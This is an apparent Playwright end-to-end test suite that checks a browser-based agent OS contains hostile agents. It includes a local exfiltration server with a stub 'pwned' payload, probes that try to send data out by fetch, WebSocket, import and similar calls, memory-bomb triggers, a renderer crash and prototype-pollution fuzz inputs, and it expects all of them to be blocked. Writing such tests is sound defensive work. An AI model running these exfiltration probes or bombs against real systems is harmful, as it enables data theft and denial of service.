/**
 * The hostile-agent suite: each attack program (e2e/attacks.ts) runs as an
 * agent in a real Chromium, and must be blocked, while a well-behaved agent
 * (the canary) keeps being served and a desktop tab keeps making syscalls.
 * An http server on another origin counts every request an attacker gets out.
 *
 * The attacks run under three hostings: the preview server (with the headers
 * vite.config.ts sends), a plain static server that sends none (e2e/static-
 * server.ts: GitHub Pages, a bare nginx), and with the service worker in
 * control. Containment must not depend on the server. Then the first layer
 * (the sandboxed frame) is probed alone, without the in-worker seal, and
 * memory bombs of every kind are set off in every tab.
 */

import { writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import {
  type Browser,
  type BrowserContext,
  type CDPSession,
  chromium,
  expect,
  type Frame,
  type Page,
  test,
} from '@playwright/test';
import { BOMB_HEAP } from '../bench/containment.mjs';
import { fuzzFrames } from '../tests/contract/fuzz-frames';
import { ATTACKS, type AttackReport, BOMBS, CANARY } from './attacks';
import { CHROMIUM_ARGS, CHROMIUM_PATH } from './chromium.mjs';
import { evaluateInKernel } from './kernel-realm';
import { serveStatic } from './static-server.mjs';

test.describe.configure({ mode: 'serial' });

let exfil: Server;
let exfilOrigin = '';
let statik: { origin: string; close(): Promise<void> } | null = null;
/** Another site's page (same site as the OS, another port: it shares the OS's kernel unless refused). */
let foreign: Server;
let foreignOrigin = '';
const hits: string[] = [];
const results: Record<string, { blocked: boolean; p99Ms: number; detail: string | null }> = {};

test.beforeAll(async () => {
  exfil = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.setHeader('access-control-allow-origin', '*');
    res.setHeader('content-type', 'text/javascript');
    res.end('export default async () => {}; self.pwned = 1;');
  });
  exfil.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise<void>((r) => exfil.listen(0, '127.0.0.1', r));
  exfilOrigin = `http://127.0.0.1:${(exfil.address() as AddressInfo).port}`;
  statik = await serveStatic('dist');
  foreign = createServer((req, res) => {
    const u = new URL(req.url ?? '/', 'http://x').searchParams.get('u') ?? '';
    res.setHeader('content-type', 'text/html');
    res.end(
      `<!doctype html><title>another site</title><iframe id="f" src="${u.replaceAll('"', '')}" width="800" height="600"></iframe>`,
    );
  });
  await new Promise<void>((r) => foreign.listen(0, '127.0.0.1', r));
  foreignOrigin = `http://localhost:${(foreign.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  writeFileSync('test-results/hostile.json', `${JSON.stringify({ hits, results }, null, 2)}\n`);
  exfil?.close();
  foreign?.close();
  await statik?.close();
});

type HostingName = 'preview' | 'static' | 'sw';

/** One hosting of the OS: a browser context, a host tab (agents run there) and a desktop that only watches. */
interface Seat {
  context: BrowserContext;
  host: Page;
  desk: Page;
  canary: number;
  origin: string;
}

async function open(page: Page, origin: string, query = ''): Promise<void> {
  await page.goto(`${origin}/${query}`);
  await page.waitForFunction(() => !!window.agentos, null, { timeout: 30_000 });
}

async function seat(browser: Browser, hosting: HostingName, baseURL: string): Promise<Seat> {
  const origin = hosting === 'static' ? statik!.origin : baseURL;
  const context = await browser.newContext();
  if (hosting === 'sw') {
    // Let the service worker install, then start the OS again: every page and the kernel are its clients.
    const first = await context.newPage();
    await open(first, origin);
    await first.evaluate(() => navigator.serviceWorker.ready);
    await first.close();
  }
  const host = await context.newPage();
  await open(host, origin);
  if (hosting === 'sw') expect(await host.evaluate(() => !!navigator.serviceWorker.controller)).toBe(true);
  // The desktop the user watches from hosts no agents.
  const desk = await context.newPage();
  await open(desk, origin, '?host=0');
  const canary = await desk.evaluate(
    (src) =>
      window.agentos!.spawn(
        'canary',
        { bus: ['family', 'name:canary'], models: ['deterministic-fast'] },
        { source: src, restart: 'on-host-loss' },
      ),
    CANARY,
  );
  await expect
    .poll(() => desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), canary))
    .toBeGreaterThan(3);
  return { context, host, desk, canary, origin };
}

const canaryOutput = (s: Seat) =>
  s.desk.evaluate((p) => window.agentos!.output(p).then((o) => o.length), s.canary);

async function canaryKeepsAnswering(s: Seat, before: number): Promise<void> {
  await expect.poll(() => canaryOutput(s), { timeout: 20_000 }).toBeGreaterThan(before);
  expect(
    await s.desk.evaluate(
      (p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)?.state),
      s.canary,
    ),
  ).toMatch(/running|waiting/);
}

/** Whether the kernel's realm has been polluted: keys on Object.prototype, or inherited by a fresh object. */
function kernelPollution(desk: Page): Promise<{ kernelRealm: boolean; polluted: string[] }> {
  return evaluateInKernel(
    desk,
    `({
      kernelRealm: typeof SharedWorkerGlobalScope === 'function' && self instanceof SharedWorkerGlobalScope,
      polluted: [
        ...Object.getOwnPropertyNames(Object.prototype).filter((k) => !${JSON.stringify(OBJECT_PROTO_KEYS)}.includes(k)),
        ...['polluted', 'x'].filter((k) => k in {}),
      ],
    })`,
  );
}

/** Object.prototype's own keys in a clean realm. */
const OBJECT_PROTO_KEYS = [
  'constructor',
  '__defineGetter__',
  '__defineSetter__',
  'hasOwnProperty',
  '__lookupGetter__',
  '__lookupSetter__',
  'isPrototypeOf',
  'propertyIsEnumerable',
  'toString',
  'valueOf',
  '__proto__',
  'toLocaleString',
];

/** Samples the desktop's syscall latency until stopped; returns the 99th percentile (ms). */
async function sampleLatency(page: Page): Promise<() => Promise<number>> {
  await page.evaluate(() => {
    const s = { stop: false, lat: [] as number[] };
    (window as unknown as { __lat: typeof s }).__lat = s;
    void (async () => {
      while (!s.stop) {
        const t = performance.now();
        await window.agentos!.call('getpid', {});
        s.lat.push(performance.now() - t);
        await new Promise((r) => setTimeout(r, 5));
      }
    })();
  });
  return () =>
    page.evaluate(() => {
      const s = (window as unknown as { __lat: { stop: boolean; lat: number[] } }).__lat;
      s.stop = true;
      const xs = [...s.lat].sort((a, b) => a - b);
      return xs[Math.min(xs.length - 1, Math.ceil(xs.length * 0.99) - 1)] ?? 0;
    });
}

/** What an unsealed agent (no in-worker seal) tries from inside a sandboxed frame: the first layer alone. */
const LAYER1_PROBES = `
const out = {};
const exfil = EXFIL_JSON;
const tryIt = async (name, fn) => {
  try { const v = await Promise.race([fn(), new Promise((_, ko) => setTimeout(() => ko(new Error('timeout')), 3000))]); out[name] = 'LEAK ' + String(v).slice(0, 80); }
  catch (e) { out[name] = 'blocked: ' + ((e && e.name) || 'Error') + ' ' + String((e && e.message) || e).slice(0, 100); }
};
(async () => {
  await tryIt('fetch another origin', () => fetch(exfil + '/l1-fetch').then((r) => r.status));
  await tryIt('fetch the OS origin', () => fetch(OS_ORIGIN + '/index.html').then((r) => r.status));
  await tryIt('XMLHttpRequest', () => new Promise((ok, ko) => { const x = new XMLHttpRequest(); x.onload = () => ok(x.status); x.onerror = () => ko(new Error('xhr error')); x.open('GET', exfil + '/l1-xhr'); x.send(); }));
  await tryIt('WebSocket', () => new Promise((ok, ko) => { const w = new WebSocket(exfil.replace('http', 'ws') + '/l1-ws'); w.onopen = () => ok('open'); w.onerror = () => ko(new Error('ws error')); }));
  await tryIt('EventSource', () => new Promise((ok, ko) => { const s = new EventSource(exfil + '/l1-sse'); s.onopen = () => ok('open'); s.onerror = () => ko(new Error('sse error')); }));
  await tryIt('import another origin', () => import(exfil + '/l1-import.js'));
  await tryIt('import protocol-relative', () => import(exfil.replace(/^https?:/, '') + '/l1-import2.js'));
  await tryIt('import the OS origin', () => import(OS_ORIGIN + '/models/x.js?v=' + Math.random()));
  await tryIt('import data:', () => import('data:text/javascript,export default 1'));
  await tryIt('importScripts', () => { importScripts(exfil + '/l1-classic.js'); return 'ran'; });
  await tryIt('FontFace', () => new FontFace('x', 'url(' + exfil + '/l1-font)').load().then(() => 'loaded'));
  await tryIt('indexedDB', () => new Promise((ok, ko) => { const r = indexedDB.open('agentos'); r.onsuccess = () => ok([...r.result.objectStoreNames].join(',') || 'opened'); r.onerror = () => ko(r.error); }));
  await tryIt('Cache Storage', () => caches.keys().then((k) => 'keys:' + k.join(',')));
  await tryIt('OPFS', () => navigator.storage.getDirectory().then((d) => 'dir ' + d.name));
  await tryIt('Web Locks', () => navigator.locks.query().then((q) => JSON.stringify(q)));
  await tryIt('storage buckets', () => navigator.storageBuckets.open('b').then(() => 'bucket'));
  await tryIt('WebGPU', () => navigator.gpu.requestAdapter().then((a) => { if (!a) throw new Error('no adapter'); return 'adapter'; }));
  await tryIt('BroadcastChannel to another agent', () => new Promise((ok, ko) => { const b = new BroadcastChannel('agentos-l1'); b.onmessage = (e) => ok('heard ' + e.data); setTimeout(() => ko(new Error('nobody heard')), 1500); b.postMessage('from-probe'); }));
  postMessage(out);
})();
`;

async function layerOneAlone(s: Seat): Promise<Record<string, string>> {
  // Two agent frames of the host tab: the probe runs in one, a listener on the channel in the other.
  await s.desk.evaluate(() =>
    window.agentos!.spawn('idle', undefined, {
      source: 'export default async () => { await new Promise((r) => setTimeout(r, 15000)); }',
    }),
  );
  const frames = async (): Promise<Frame[]> => s.host.frames().filter((f) => f.url() === 'about:srcdoc');
  await expect.poll(async () => (await frames()).length).toBeGreaterThanOrEqual(2);
  const [probeFrame, other] = await frames();
  const frameFacts = await probeFrame!.evaluate(() => ({
    origin: self.origin,
    csp: document.querySelector('meta[http-equiv]')?.getAttribute('content') ?? null,
    sandbox: window.frameElement === null, // a cross-origin (opaque) frame cannot see its element
  }));
  expect(frameFacts.origin).toBe('null');
  expect(frameFacts.csp).toContain("default-src 'none'");
  await other!.evaluate(() => {
    const b = new BroadcastChannel('agentos-l1');
    b.onmessage = () => b.postMessage('echo');
  });
  const probes = LAYER1_PROBES.replace('EXFIL_JSON', JSON.stringify(exfilOrigin)).replaceAll(
    'OS_ORIGIN',
    JSON.stringify(s.origin),
  );
  return probeFrame!.evaluate(
    (code) =>
      new Promise<Record<string, string>>((ok, ko) => {
        const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
        w.onmessage = (e) => ok(e.data as Record<string, string>);
        w.onerror = (e) => ko(new Error(`probe worker failed: ${e.message}`));
      }),
    probes,
  );
}

for (const hosting of ['preview', 'static', 'sw'] as const) {
  test.describe(`hosting: ${hosting}`, () => {
    let s: Seat;
    test.beforeAll(async ({ browser, baseURL }) => {
      test.setTimeout(90_000);
      s = await seat(browser, hosting, baseURL!);
    });
    test.afterAll(async () => {
      await s?.context.close();
    });

    for (const attack of ATTACKS) {
      test(`blocked: ${attack.name}`, async () => {
        test.setTimeout((attack.waitMs ?? 20_000) + 30_000);
        const hitsBefore = hits.length;
        const before = await canaryOutput(s);
        const stop = await sampleLatency(s.desk);
        const source = attack.source.replaceAll('EXFIL', exfilOrigin);
        const run = await s.desk.evaluate(
          async ({ source, permissions, canary, waitMs }) => {
            const k = window.agentos!;
            const pid = await k.spawn('attack', permissions, { source, args: { canary } });
            const exit = await k.wait(pid, waitMs);
            return { exit, out: await k.output(pid) };
          },
          { source, permissions: attack.permissions, canary: s.canary, waitMs: attack.waitMs ?? 20_000 },
        );
        const p99 = await stop();
        const line = run.out.trim().split('\n').at(-1) ?? '';
        let report: AttackReport | null = null;
        try {
          report = JSON.parse(line) as AttackReport;
        } catch {
          /* the busy loop prints nothing */
        }
        const detail =
          (report?.leaks.length ? `leaked: ${report.leaks.join('; ')}` : null) ??
          attack.check?.({ exitCode: run.exit.exitCode, reason: run.exit.exitReason ?? null, report }) ??
          (hits.length > hitsBefore
            ? `the exfiltration server was reached: ${hits.slice(hitsBefore).join(', ')}`
            : null);
        results[`${hosting}: ${attack.name}`] = { blocked: detail === null, p99Ms: p99, detail };
        expect(detail, `${attack.name}: ${run.out.slice(0, 2000)}`).toBeNull();
        // The well-behaved agent kept being served, and the kernel answers.
        await canaryKeepsAnswering(s, before);
      });
    }

    test('the first layer alone: an unsealed worker in an agent frame reaches no server, no storage, no GPU, no other agent', async () => {
      const hitsBefore = hits.length;
      const out = await layerOneAlone(s);
      const leaks = Object.entries(out).filter(([, v]) => v.startsWith('LEAK'));
      results[`${hosting}: first layer alone`] = {
        blocked: leaks.length === 0 && hits.length === hitsBefore,
        p99Ms: 0,
        detail: leaks.length ? JSON.stringify(leaks) : null,
      };
      expect(leaks, JSON.stringify(out, null, 1)).toEqual([]);
      expect(Object.keys(out).length).toBe(18);
      expect(hits.slice(hitsBefore)).toEqual([]);
    });

    test('the desktop refuses to run inside another site’s frame: no kernel, no prompt, an offer to open it in its own tab', async () => {
      const page = await s.context.newPage();
      await page.goto(`${foreignOrigin}/?u=${encodeURIComponent(`${s.origin}/`)}`);
      const frame = page.frames().find((f) => f !== page.mainFrame())!;
      await frame.waitForLoadState('load').catch(() => {});
      // With headers the browser refuses the frame (frame-ancestors); without, the page refuses itself.
      await expect
        .poll(() =>
          frame
            .evaluate(() => ({
              kernel: !!window.agentos,
              desktop: !!document.querySelector('aos-desktop'),
              framed: document.documentElement.dataset.framed ?? null,
            }))
            .catch(() => ({ kernel: false, desktop: false, framed: 'blocked by the browser' })),
        )
        .toMatchObject({ kernel: false, desktop: false });
      if (hosting === 'static') {
        expect(await frame.evaluate(() => document.documentElement.dataset.framed)).toBe('true');
        await expect(frame.getByRole('link', { name: /open agentos in its own tab/i })).toBeVisible();
      }
      // Still nothing after a while: it never connected.
      await page.waitForTimeout(500);
      expect(await frame.evaluate(() => !!window.agentos).catch(() => false)).toBe(false);
      await page.close();
    });

    test('an embed frame on a refused origin is refused and never hosts the user’s agents', async () => {
      const page = await s.context.newPage();
      await page.goto(`${foreignOrigin}/?u=${encodeURIComponent(`${s.origin}/embed.html`)}`);
      const replies = await page.evaluate(async () => {
        const f = document.getElementById('f') as HTMLIFrameElement;
        await new Promise((r) => (f.contentWindow ? setTimeout(r, 300) : f.addEventListener('load', r)));
        const seen: unknown[] = [];
        addEventListener('message', (e) => seen.push(e.data));
        f.contentWindow!.postMessage({ agentos: 1, id: 'h1', type: 'hello', versions: [1] }, '*');
        f.contentWindow!.postMessage(
          { agentos: 1, id: 's1', type: 'spawn', task: 'x', options: { source: 'export default () => 0' } },
          '*',
        );
        const t0 = Date.now();
        while (seen.length < 2 && Date.now() - t0 < 15_000) await new Promise((r) => setTimeout(r, 50));
        return seen as { type?: string }[];
      });
      expect(replies.length).toBeGreaterThan(0);
      expect(replies.every((m) => m.type === 'refused')).toBe(true);
      // The user's agents all go to the user's own host tab, none into the refused frame.
      const hostTab = await s.host.evaluate(() => window.agentos!.tabId);
      const placed = await s.desk.evaluate(async () => {
        const k = window.agentos!;
        const pids: number[] = [];
        for (let i = 0; i < 4; i++)
          pids.push(
            await k.spawn('placed', undefined, {
              source: 'export default () => new Promise((r) => setTimeout(r, 3000))',
            }),
          );
        await new Promise((r) => setTimeout(r, 300));
        const ps = await k.ps();
        return pids.map((p) => ps.find((x) => x.pid === p)?.hostTab ?? null);
      });
      expect(placed).toEqual([hostTab, hostTab, hostTab, hostTab]);
      await page.close();
    });

    test('an allowed embedding page is clamped by the kernel and bounded: past its entry EPERM, past its limits EAGAIN', async () => {
      test.setTimeout(90_000);
      const hitsBefore = hits.length;
      const before = await canaryOutput(s);
      await s.desk.evaluate(
        (o) =>
          window.agentos!.call('embed.allow', {
            origin: o,
            permissions: { tools: ['time.now'], limits: { procs: 3, spawnsPerSec: 100 } },
          }),
        foreignOrigin,
      );
      const page = await s.context.newPage();
      await page.goto(`${foreignOrigin}/?u=${encodeURIComponent(`${s.origin}/embed.html`)}`);
      type Reply = { type?: string; ok?: boolean; value?: { pid?: number }; error?: { code: string } };
      const r = await page.evaluate(async (canary) => {
        const f = document.getElementById('f') as HTMLIFrameElement;
        await new Promise((ok) =>
          f.contentDocument === null ? setTimeout(ok, 300) : f.addEventListener('load', ok),
        );
        const seen = new Map<string, Reply>();
        addEventListener('message', (e) => {
          const d = e.data as Reply & { id?: string };
          if (d?.id) seen.set(d.id, d);
        });
        const ask = async (m: Record<string, unknown> & { id: string }): Promise<Reply> => {
          f.contentWindow!.postMessage({ agentos: 1, ...m }, '*');
          const t0 = Date.now();
          while (!seen.has(m.id) && Date.now() - t0 < 20_000) await new Promise((ok) => setTimeout(ok, 20));
          return seen.get(m.id) ?? { type: 'no answer' };
        };
        const code = (x: Reply) => (x.ok ? 'ok' : (x.error?.code ?? x.type ?? '?'));
        const idle = 'export default (ctx) => ctx.bus.recv({ timeoutMs: 30000 }).catch(() => {})';
        const hello = await ask({ id: 'h', type: 'hello', versions: [1] });
        const more = await ask({
          id: 'more',
          type: 'spawn',
          task: 'x',
          permissions: { tools: ['*'], net: ['*'], spawn: true },
          options: { source: idle },
        });
        const spawns: Reply[] = [];
        for (let i = 0; i < 5; i++)
          spawns.push(await ask({ id: `s${i}`, type: 'spawn', task: 'x', options: { source: idle } }));
        const toCanary = await ask({ id: 'c', type: 'send', pid: canary, body: 'x' });
        const killCanary = await ask({ id: 'k', type: 'kill', pid: canary });
        const tools: Reply[] = [];
        for (let i = 0; i < 34; i++)
          tools.push(
            await ask({
              id: `t${i}`,
              type: 'tool.register',
              name: `t${i}`,
              description: 'x',
              inputSchema: { type: 'object' },
            }),
          );
        return {
          hello: hello.type,
          more: code(more),
          spawns: spawns.map(code),
          pids: spawns.flatMap((x) => (x.ok && x.value?.pid ? [x.value.pid] : [])),
          toCanary: code(toCanary),
          killCanary: code(killCanary),
          tools: tools.map(code),
        };
      }, s.canary);
      expect(r.hello).toBe('welcome');
      expect(r.more).toBe('EPERM');
      expect(r.spawns).toEqual(['ok', 'ok', 'ok', 'EAGAIN', 'EAGAIN']);
      expect(r.toCanary).toBe('EPERM');
      expect(r.killCanary).toBe('EPERM');
      expect(r.tools.slice(0, 32).every((c) => c === 'ok')).toBe(true);
      expect(r.tools.slice(32)).toEqual(['EAGAIN', 'EAGAIN']);
      const audit = await s.desk.evaluate(() =>
        window.agentos!.call<{ text: string }[]>('logs', { pid: 0, kind: 'quota' }),
      );
      expect(audit.map((a) => a.text).join('\n')).toContain(`origin:${foreignOrigin}`);
      await page.close();
      await s.desk.evaluate(
        async ({ o, pids }) => {
          await window.agentos!.call('embed.disallow', { origin: o });
          for (const pid of pids) await window.agentos!.kill(pid, 'KILL').catch(() => {});
        },
        { o: foreignOrigin, pids: r.pids },
      );
      expect(hits.slice(hitsBefore)).toEqual([]);
      await canaryKeepsAnswering(s, before);
    });

    test('caches belong to the OS: what an agent imports or names with a query string is not cached', async () => {
      const source = `export default async function main(ctx) {
        const tried = [];
        for (let i = 0; i < 20; i++) {
          try { await import(ctx.args.origin + '/models/tiny/config.json?v=' + i); tried.push('ok'); } catch (e) { tried.push(e.name); }
          try { await import('/assets/x.js?v=' + i); tried.push('ok'); } catch (e) { tried.push(e.name); }
        }
        await ctx.print(JSON.stringify(tried.filter((t) => t === 'ok').length));
      }`;
      const out = await s.desk.evaluate(
        async ({ src, origin }) => {
          const k = window.agentos!;
          const pid = await k.spawn('cache filler', undefined, { source: src, args: { origin } });
          await k.wait(pid, 20_000);
          return k.output(pid);
        },
        { src: source, origin: s.origin },
      );
      expect(out.trim()).toBe('0');
      const keys = await s.desk.evaluate(async () => {
        const all: string[] = [];
        for (const name of await caches.keys())
          for (const r of await (await caches.open(name)).keys()) all.push(`${name} ${r.url}`);
        return all;
      });
      // Nothing the agent named; and the runtime caches (models, engines) hold no URL with a query at all
      // (the precache's own ?__WB_REVISION__ entries are the OS's).
      expect(keys.filter((u) => /[?&]v=/.test(u))).toEqual([]);
      expect(keys.filter((u) => /^agentos-(models|engines) .*\?/.test(u))).toEqual([]);
    });
  });
}

test.describe('the kernel never shares a fate with an agent', () => {
  let s: Seat;
  let bombBrowser: Browser;
  let second: Page;
  /** CDP sessions into the two host tabs, made before any crash: Playwright marks a page crashed (and stops
   *  evaluating in it) when any of its frames' processes dies, though the page itself runs on. */
  const cdp = new Map<Page, CDPSession>();
  test.beforeAll(async ({ baseURL }) => {
    test.setTimeout(90_000);
    // Its own browser, with a 1 GiB heap per isolate: the bombs reach the limit sooner and take less of a
    // shared machine.
    bombBrowser = await chromium.launch({
      executablePath: CHROMIUM_PATH,
      args: [...CHROMIUM_ARGS, BOMB_HEAP],
    });
    s = await seat(bombBrowser, 'preview', baseURL!);
    // A second host tab, so agents lost with one tab's frames have somewhere else to go.
    second = await s.context.newPage();
    await open(second, s.origin);
    for (const p of [s.host, second, s.desk]) cdp.set(p, await s.context.newCDPSession(p));
  });
  test.afterAll(async () => {
    await s?.context.close();
    await bombBrowser?.close();
  });

  async function evalIn<T>(page: Page, expression: string): Promise<T> {
    const r = await cdp.get(page)!.send('Runtime.evaluate', {
      expression,
      awaitPromise: true,
      returnByValue: true,
      timeout: 15_000,
    });
    if (r.exceptionDetails)
      throw new Error(r.exceptionDetails.exception?.description ?? r.exceptionDetails.text);
    return r.result.value as T;
  }

  /** Every tab's own document answers, and so does the kernel through it. */
  const tabsAlive = () =>
    Promise.all(
      [s.host, second, s.desk].map((p) =>
        evalIn<boolean>(p, 'window.agentos.call("getpid", {}).then(() => true)').catch(() => false),
      ),
    );

  const load = (page: Page) =>
    evalIn<number>(page, 'window.agentos.hostedPids().length + 8 * window.agentos.hostedEngines().length');

  /** Makes `target` the tab the kernel places the next agent in (the least loaded; ties go to the tab that
   *  connected first, s.host), with idle ballast in the other. */
  async function steerTo(target: Page): Promise<void> {
    const other = target === s.host ? second : s.host;
    const wins = async () => {
      const [t, o] = [await load(target), await load(other)];
      return target === s.host ? t <= o : t < o;
    };
    for (let i = 0; i < 20 && !(await wins()); i++)
      await s.desk.evaluate(() =>
        // Filler that opts out of moving (agents move by default): lost with a bomb's frames, it exits
        // instead of joining the suspects, so the bomb is told apart within crash-blame's strikes.
        window.agentos!.spawn('ballast', undefined, {
          source: 'export default async () => { await new Promise((r) => setTimeout(r, 600000)); }',
          restart: 'never',
        }),
      );
    expect(await wins()).toBe(true);
  }

  const plan: [string, 'first' | 'second'][] = [
    ['sync heap', 'first'],
    ['async heap (keeps answering the heartbeat)', 'second'],
    ['WebAssembly.Memory', 'first'],
    ['ArrayBuffer', 'second'],
    ['async heap (keeps answering the heartbeat)', 'first'],
  ];
  for (const [name, tab] of plan)
    test(`a ${name} bomb in the ${tab} tab ends at most that tab's sandbox process: the kernel, every desktop and the canary carry on; the bomb is blamed, not restarted`, async () => {
      test.setTimeout(180_000);
      const target = tab === 'first' ? s.host : second;
      await steerTo(target);
      const targetTab = await evalIn<string>(target, 'window.agentos.tabId');
      const before = await canaryOutput(s);
      const pid = await s.desk.evaluate(
        (src) => window.agentos!.spawn('bomb', undefined, { source: src, restart: 'on-host-loss' }),
        BOMBS[name]!,
      );
      const placed = await s.desk.evaluate(
        (p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)?.hostTab ?? null),
        pid,
      );
      expect(placed).toBe(targetTab);
      const exit = await s.desk.evaluate((p) => window.agentos!.wait(p, 170_000), pid);
      // Ended and not brought back (restart: on-host-loss notwithstanding). Two detectors may end it, and
      // which is first depends on the machine: the crash path (its frames' process died and it alone was
      // the cause), or the heartbeat (a bomb that stops its worker answering before its process dies;
      // the host tab judged the frame alive just before). Either way it is blamed and ended.
      expect(exit.exitCode).toBe(137);
      expect(exit.exitReason).toMatch(
        /it was the cause: not restarted|unresponsive for \d+ ms \(no heartbeat\)/,
      );
      // Both host tabs' documents, the desktop and the kernel answer; the canary keeps running (restarted
      // elsewhere if it was lost with the bomb's frames).
      expect(await tabsAlive()).toEqual([true, true, true]);
      await canaryKeepsAnswering(s, before);
      // Still ended after the crash that follows a heartbeat kill: never restarted.
      const after = await s.desk.evaluate(
        (p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)?.state ?? null),
        pid,
      );
      expect(after).toBe('exited');
      results[`bomb: ${name} (${tab} tab)`] = { blocked: true, p99Ms: 0, detail: exit.exitReason ?? null };
    });

  test('Page.crash on an agent frame (its renderer killed) takes only that frame’s process: the agent is blamed, the tab and kernel carry on', async () => {
    test.setTimeout(90_000);
    await steerTo(second);
    const pid = await s.desk.evaluate(() =>
      window.agentos!.spawn('victim', undefined, {
        source:
          'export default async (ctx) => { for (;;) { await ctx.syscall("getpid", {}); await new Promise((r) => setTimeout(r, 50)); } }',
        // Opts out of moving: lost with others (a suspect) it ends (129) rather than moving on; alone, it is blamed (137).
        restart: 'never',
      }),
    );
    await expect
      .poll(() =>
        s.desk.evaluate((p) => window.agentos!.ps().then((ps) => ps.find((x) => x.pid === p)?.state), pid),
      )
      .toMatch(/running|waiting/);
    // Every agent frame of that tab shares one process (Chromium groups sandboxed frames per site): kill it.
    const frame = second.frames().find((f) => f.url() === 'about:srcdoc');
    expect(frame).toBeTruthy();
    const before = await canaryOutput(s);
    const frameCdp = await s.context.newCDPSession(frame!);
    await frameCdp.send('Page.crash').catch(() => {}); // no answer: its process is gone
    const exit = await s.desk.evaluate((p) => window.agentos!.wait(p, 60_000), pid);
    // Alone in the crashed process: it is taken for the cause (the kernel cannot tell a kill from a bomb).
    expect(exit.exitReason).toMatch(/sandbox process/);
    expect(await tabsAlive()).toEqual([true, true, true]);
    await canaryKeepsAnswering(s, before);
  });
});

test.describe('fuzz', () => {
  let s: Seat;
  test.beforeAll(async ({ browser, baseURL }) => {
    test.setTimeout(90_000);
    s = await seat(browser, 'preview', baseURL!);
  });
  test.afterAll(async () => {
    await s?.context.close();
  });
  test('fuzz: 10,000 random and malformed frames on a port, and 2,000 random syscalls from a sandboxed agent; each answered with a typed error, the kernel serving throughout', async () => {
    test.setTimeout(60_000);
    const canaryBefore = await canaryOutput(s);
    // The same generator as the unit fuzz test (tests/contract/fuzz-frames.ts), here on a tab's port.
    const names = [
      'spawn',
      'kill',
      'wait',
      'ps',
      'nop',
      'exit',
      'boot',
      'bus.send',
      'bus.publish',
      'tools.call',
      'tools.register',
      'memory.remember',
      'memory.recall',
      'context.allocate',
      'models.load',
      'sched.policy',
      'renice',
      'grant',
      'revoke',
      'embed.allow',
      'permission.answer',
      'tools.result',
      '__proto__',
      'constructor',
      'toString',
      'x'.repeat(5000),
      '',
    ];
    const { json, withId } = fuzzFrames({ seed: 4242, count: 10_000, idBase: 5_000_000, names });
    const raw = await s.desk.evaluate(
      async ({ json, withId }) => {
        const port = (window.agentos as unknown as { sys: { port: MessagePort } }).sys.port;
        const answers = new Map<number, { ok: boolean; error?: { code: string } }>();
        const orig = port.onmessage;
        port.onmessage = (ev) => {
          if (ev.data?.t === 'ret' && ev.data.id >= 5_000_000) answers.set(ev.data.id, ev.data);
          else orig?.call(port, ev);
        };
        for (const frame of JSON.parse(json) as unknown[]) port.postMessage(frame);
        const t0 = performance.now();
        while (answers.size < withId * 0.85 && performance.now() - t0 < 10_000)
          await new Promise((r) => setTimeout(r, 50));
        port.onmessage = orig;
        const codes = new Set<string>();
        for (const a of answers.values()) if (!a.ok) codes.add(a.error!.code);
        return { withId, answered: answers.size, codes: [...codes] };
      },
      { json, withId },
    );
    expect(raw.answered).toBeGreaterThan(raw.withId * 0.85);
    for (const c of raw.codes)
      expect(['EINVAL', 'ENOSYS', 'ESRCH', 'EPERM', 'E2BIG', 'ENOENT', 'ETIMEDOUT', 'EAGAIN']).toContain(c);
    // The frames went to the kernel: its realm (the SharedWorker), not this page's, is where pollution would show.
    expect(await kernelPollution(s.desk)).toEqual({ kernelRealm: true, polluted: [] });

    // From inside the sandbox: random syscalls through the SDK, many in flight at once.
    const FUZZER = `export default async function main(ctx) {
    let seed = 99;
    const rnd = () => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed / 0x7fffffff; };
    const names = ['spawn', 'ps', 'nop', 'getpid', 'write', 'bus.send', 'bus.publish', 'bus.subscribe', 'tools.call', 'tools.search', 'memory.remember', 'memory.recall', 'memory.forget', 'context.allocate', 'models.load', 'sched.policy', 'renice', 'grant', 'restart', 'embed.allow', 'tools.result', 'llm.chat', 'no.such', '__proto__'];
    const val = () => { const r = rnd(); return r < 0.2 ? null : r < 0.4 ? { pid: 1, task: 7, name: 'x'.repeat(300) } : r < 0.6 ? JSON.parse('{"__proto__":{"x":1}}') : r < 0.8 ? [1, 'a', { b: null }] : { messages: [{ role: 'wizard' }] }; };
    const codes = {}; let ok = 0, n = 0;
    for (let batch = 0; batch < 10; batch++) {
      await Promise.all(Array.from({ length: 200 }, async () => {
        const name = names[Math.floor(rnd() * names.length)];
        try { await ctx.syscall(name, val()); ok++; } catch (e) { codes[e.code ?? e.name] = (codes[e.code ?? e.name] ?? 0) + 1; }
        n++;
      }));
    }
    await ctx.print(JSON.stringify({ n, ok, codes }));
  }`;
    const agent = await s.desk.evaluate(async (src) => {
      const k = window.agentos!;
      const pid = await k.spawn('fuzzer', undefined, { source: src });
      const exit = await k.wait(pid, 30_000);
      return {
        exit,
        out: JSON.parse(await k.output(pid)) as { n: number; ok: number; codes: Record<string, number> },
      };
    }, FUZZER);
    expect(agent.exit.exitCode).toBe(0);
    expect(agent.out.n).toBe(2000);
    for (const c of Object.keys(agent.out.codes))
      expect(['EINVAL', 'ENOSYS', 'ESRCH', 'EPERM', 'E2BIG', 'ENOENT', 'EAGAIN', 'EDQUOT']).toContain(c);
    expect(await kernelPollution(s.desk)).toEqual({ kernelRealm: true, polluted: [] });
    // The kernel still serves the desktop and the canary.
    expect(await s.desk.evaluate(() => window.agentos!.call('nop', {}))).toBeNull();
    await expect.poll(() => canaryOutput(s)).toBeGreaterThan(canaryBefore);
  });
});

test('nothing reached the exfiltration server during the suite', () => {
  expect(hits).toEqual([]);
});
